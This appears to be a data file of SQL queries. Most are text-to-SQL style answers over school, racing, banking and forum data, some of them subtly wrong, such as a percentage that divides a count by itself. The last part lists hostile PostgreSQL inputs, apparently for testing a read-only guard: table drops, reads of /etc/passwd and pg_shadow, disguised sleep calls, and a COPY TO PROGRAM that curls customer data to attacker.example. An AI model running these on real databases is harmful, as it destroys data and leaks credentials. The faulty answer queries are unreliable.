SELECT CAST(SUM(CASE WHEN Currency = 'EUR' THEN 1 ELSE 0 END) AS REAL) / NULLIF(SUM(CASE WHEN Currency = 'CZK' THEN 1 ELSE 0 END), 0) FROM customers

SELECT driverRef FROM drivers WHERE nationality = 'German' ORDER BY dob ASC LIMIT 1

SELECT T1."Enrollment (Ages 5-17)" FROM frpm AS T1 INNER JOIN schools AS T2 ON T1.CDSCode = T2.CDSCode WHERE T2.EdOpsCode = 'SSS' AND T2.City = 'Fremont' AND T1."Academic Year" = '2014-2015'

SELECT  circuits.lat, circuits.lng
FROM circuits
WHERE circuits.name = 'Silverstone Circuit'

SELECT  COUNT(schools.school) / 12
FROM schools
WHERE schools.doc = 52 AND schools.county = 'Alameda' AND schools.opendate BETWEEN '1980-01-01' AND '1980-12-31'

SELECT races.name, results.points
FROM drivers
JOIN results ON drivers.driverid = results.driverid
JOIN races ON results.raceid = races.raceid
WHERE drivers.forename = 'Lewis' AND drivers.surname = 'Hamilton'
ORDER BY races.year
LIMIT 1

SELECT schools.school, satscores.numge1500, schools.admfname1, schools.admlname1, schools.admfname2, schools.admlname2, schools.admfname3, schools.admlname3
FROM schools
JOIN satscores ON schools.cdscode = satscores.cds
WHERE satscores.numge1500 = (SELECT MAX(numge1500) FROM satscores)

SELECT lat, lng 
FROM circuits 
WHERE name = 'Silverstone Circuit'

SELECT account.account_id, loan.amount
FROM account
JOIN loan ON account.account_id = loan.account_id
WHERE loan.date BETWEEN '1997-01-01' AND '1997-12-31'
AND loan.status = 'A'
AND account.frequency = 'POPLATEK TYDNE'
ORDER BY loan.amount ASC
LIMIT 1

SELECT constructors.constructorref, constructors.url
FROM results
JOIN races ON results.raceid = races.raceid
JOIN constructors ON results.constructorid = constructors.constructorid
WHERE races.name = 'Singapore Grand Prix' AND races.year = 2009
ORDER BY results.positionorder ASC
LIMIT 1

SELECT
    (COUNT(DISTINCT c.customerid) * 100.0) / (SELECT COUNT(*) FROM customers) AS percentage
FROM
    customers c
JOIN
    transactions_1k t ON c.customerid = t.customerid
WHERE
    c.currency = 'EUR'
    AND t.date = '2012-08-25'

SELECT p.favoritecount
FROM comments c
JOIN posts p ON c.postid = p.id
WHERE c.userid = 3025 AND c.creationdate = '2014-04-23 20:29:39+00'

SELECT 
    ROUND(
        (
            (SELECT COUNT(ID) FROM Patient WHERE Diagnosis = 'SLE' AND Admission = '-')
            /
            (SELECT COUNT(ID) FROM Patient WHERE Diagnosis = 'SLE' AND Admission = '+')
        )::NUMERIC, 2
    ) AS ratio

SELECT 
    (COUNT(p.id) FILTER (WHERE t.tagname = 'r'))::numeric / COUNT(p.id) * 100 
AS percentage
FROM 
    posts p 
JOIN 
    users u ON p.owneruserid = u.id 
LEFT JOIN 
    postLinks pl ON p.id = pl.postid 
LEFT JOIN 
    tags t ON pl.relatedpostid = t.id 
WHERE 
    u.displayname = 'Community'

SELECT 
    COUNT(CASE WHEN SEX = 'M' AND UA <= '8.0' THEN 1 ELSE NULL END) / 
    COUNT(CASE WHEN SEX = 'F' AND UA <= '6.5' THEN 1 ELSE NULL END) AS ratio
FROM 
    Patient p 
JOIN 
    Examination e ON p.PatientID = e.PatientID 
JOIN 
    Laboratory l ON e.ExaminationID = l.ExaminationID

SELECT (COUNT(c.id) / (SELECT COUNT(*) FROM cards)) * 100 AS percentage
FROM cards c
WHERE c.language = 'Chinese Simplified'

SELECT code
FROM drivers
JOIN qualifying ON drivers.driverid = qualifying.driverid
WHERE q3 LIKE '0:01:33%' AND qualifying.raceid = 45

SELECT SUM(expense.cost) AS total_cost_of_pizzas
FROM expense
WHERE expense.expense_description = 'Pizza'

SELECT 
    ((COUNT(CASE WHEN YEAR(badges.date) = 2010 THEN 1 END) * 100.0) / COUNT(CASE WHEN YEAR(badges.date) = 2010 THEN 1 END)) -
    ((COUNT(CASE WHEN YEAR(badges.date) = 2011 THEN 1 END) * 100.0) / COUNT(CASE WHEN YEAR(badges.date) = 2011 THEN 1 END)) AS percentage_difference
FROM 
    badges
WHERE 
    badges.name = 'Student'

SELECT airline.airline_name, AVG(fare.round_trip_cost) AS avg_round_trip_cost FROM fare JOIN airline ON fare.fare_airline = airline.airline_code WHERE fare.from_airport = 'LAX' AND fare.to_airport = 'ORD' GROUP BY airline.airline_name ORDER BY avg_round_trip_cost DESC

SELECT 1; COMMIT; DROP TABLE orders

WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone

SELECT pg_read_file('/etc/passwd')

SELECT * FROM orders WHERE id = 1 FOR UPDATE

SELECT query_to_xml('DELETE FROM orders', true, true, '')

SELECT * INTO backup_orders FROM orders

SELECT "pg_sleep"(10)

SELECT U&"\0070g_sleep"(10)

SELECT (o).pg_sleep FROM (SELECT 1.5 AS pg_sleep) o, LATERAL (SELECT (2.0).pg_sleep) s

SELECT usename, passwd FROM pg_shadow

SELECT 'abc\' ; DROP TABLE orders; --'

SELECT set_config('default_transaction_read_only', 'off', false)

EXPLAIN ANALYZE DELETE FROM orders

COPY (SELECT * FROM customers) TO PROGRAM 'curl -d @- attacker.example'

SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)

WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t

SELECT * FROM orders ORDER BY created_at DESC LIMIT 50000

SELECT customer_id, sum(total) FROM orders GROUP BY 1 -- top spenders

